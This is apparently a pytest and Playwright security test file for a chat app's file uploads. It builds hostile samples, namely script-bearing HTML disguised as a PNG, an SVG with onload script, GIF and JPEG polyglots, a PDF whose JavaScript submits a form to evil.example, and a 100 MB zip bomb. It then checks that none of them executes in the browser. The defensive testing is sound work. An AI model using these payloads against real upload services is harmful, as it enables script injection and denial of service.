"""Hostile files, opened in a real browser at every address at which they are served: nothing in them runs."""

import io
import json
import time
import urllib.request
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from PIL import Image
from playwright.sync_api import Error, Page

from chatapp.tests.browser.api import ApiPerson
from chatapp.tests.patience import PATIENCE_SECONDS
from chatapp.tests.pictures import film, picture_bytes, png_claiming

SCRIPT = b"<script>trap('ran'); alert('ran'); fetch('/api/users/me').then(() => trap('asked'))</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="trap(\'ran\')"><script>trap("ran"); alert("ran")</script></svg>'
PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>"
    b"endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj\n4 0 obj<</S/JavaScript"
    b"/JS(app.alert\\('ran'\\);"
    b"this.submitForm\\('http://evil.example/'\\))>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
)


def zip_bomb() -> bytes:
    """Return a document that unpacks to 100 MB."""
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", bytes(100_000_000))
    return output.getvalue()


def photo(orientation: int) -> bytes:
    """Return a photo that is turned."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    return picture_bytes("JPEG", size=(400, 300), exif=exif.tobytes())


HOSTILE: dict[str, Callable[[], bytes]] = {
    "page.png": lambda: b"<!doctype html><title>x</title>" + SCRIPT,
    "drawing.svg": lambda: SVG,
    "script.js": lambda: b"trap('ran'); alert('ran')",
    "gifar.gif": lambda: picture_bytes("GIF", size=(400, 300)) + b"PK\x03\x04" + SCRIPT,
    "both.jpg": lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF" + SCRIPT,
    "plan.pdf": lambda: PDF,
    "bomb.docx": zip_bomb,
    "film.mp4": lambda: film(place=SCRIPT),
}
PICTURES: dict[str, tuple[bytes, tuple[int, int] | None]] = {
    "huge.png": (png_claiming(50_000, 50_000), None),
    "truncated.jpg": (picture_bytes("JPEG", size=(400, 300))[:1_000], None),
    "16-bit.png": (picture_bytes("PNG", mode="I;16", size=(400, 300)), (400, 300)),
    "cmyk.jpg": (picture_bytes("JPEG", mode="CMYK", size=(400, 300)), (400, 300)),
    **{f"turned-{turn}.jpg": (photo(turn), (400, 300) if turn < 5 else (300, 400)) for turn in range(1, 9)},
}


def uploaded(person: ApiPerson, chat_id: int, name: str, content: bytes) -> dict[str, Any]:
    """Return a file, sent and processed."""
    head = f'--edge\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n\r\n'.encode()
    request = urllib.request.Request(
        f"{person.base}/api/chats/{chat_id}/files",
        data=head + content + b"\r\n--edge--\r\n",
        headers={"Content-Type": "multipart/form-data; boundary=edge", "Authorization": f"Bearer {person.token}"},
    )
    with urllib.request.urlopen(request, timeout=30) as answer:
        file = json.loads(answer.read())
    person.call("POST", f"/api/chats/{chat_id}/messages", content="", files=[file["id"]])
    ends = time.monotonic() + PATIENCE_SECONDS
    while file["state"] == "processing" and time.monotonic() < ends:
        time.sleep(0.1)
        file = person.call("GET", f"/api/files/{file['id']}")
    assert file["state"] == "ready"
    return dict(file)


def addresses(file: dict[str, Any]) -> list[str]:
    """Return everywhere it is served."""
    versions = [*map(str, file["sizes"]), *(["poster"] if file["poster"] else [])]
    return [file["url"], f"{file['url']}?download", *(f"{file['url']}/{version}" for version in versions)]


def opened(page: Page, address: str) -> None:
    """Open an address as someone who clicks on it; a download is fine."""
    try:
        page.goto(address)
        page.wait_for_timeout(200)
    except Error as error:
        assert "Download is starting" in str(error) or "ERR_ABORTED" in str(error), error


@pytest.fixture
def chat_id(ada, ben):
    return ada.new_chat(ben, title="Files")


@pytest.fixture
def trap(open_window, ada, chat_id):
    """A window in which scripts of files would be noticed; returns it and what was noticed."""
    window, noticed = open_window(accept_downloads=True), []
    window.context.expose_function("trap", lambda what: noticed.append(what))
    window.page.on("dialog", lambda dialog: (noticed.append(dialog.message), dialog.dismiss()))
    window.page.on("request", lambda request: noticed.append(request.url) if "evil.example" in request.url else None)
    window.sign_in(ada)
    return window, noticed


def test_the_trap_works(trap):
    window, noticed = trap
    window.page.goto("/chats")
    window.page.evaluate("() => trap('ran')")
    assert noticed == ["ran"]


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_runs(trap, ada, chat_id, name):
    window, noticed = trap
    file = uploaded(ada, chat_id, name, HOSTILE[name]())
    for address in addresses(file):
        opened(window.page, address)
        # As another page of this site would use it.
        window.page.goto("/chats")
        for element in ("img", "script", "iframe", "embed", "object"):
            window.page.evaluate(
                """([kind, url]) => new Promise((done) => {
                    const element = document.createElement(kind);
                    element[kind === "object" ? "data" : "src"] = url;
                    element.onload = element.onerror = done;
                    setTimeout(done, 300);
                    document.body.append(element);
                })""",
                [element, address],
            )
    window.open_chat(chat_id)
    window.page.wait_for_timeout(300)
    assert noticed == []


@pytest.mark.parametrize("name", PICTURES)
def test_pictures_are_shown_upright_or_are_cards(trap, ada, chat_id, name):
    window, noticed = trap
    content, size = PICTURES[name]
    file = uploaded(ada, chat_id, name, content)
    assert (file["kind"] == "image") is (size is not None)
    window.page.goto("/chats")
    for address in addresses(file) if size else []:
        if "download" in address:
            continue
        shown = window.page.evaluate(
            "async (url) => { const image = new Image(); image.src = url; await image.decode(); return [image.naturalWidth, image.naturalHeight]; }",  # noqa: E501
            address,
        )
        shrink = max(size) / max(shown)
        assert [round(side * shrink) for side in shown] == list(size)
    window.open_chat(chat_id)
    assert noticed == []
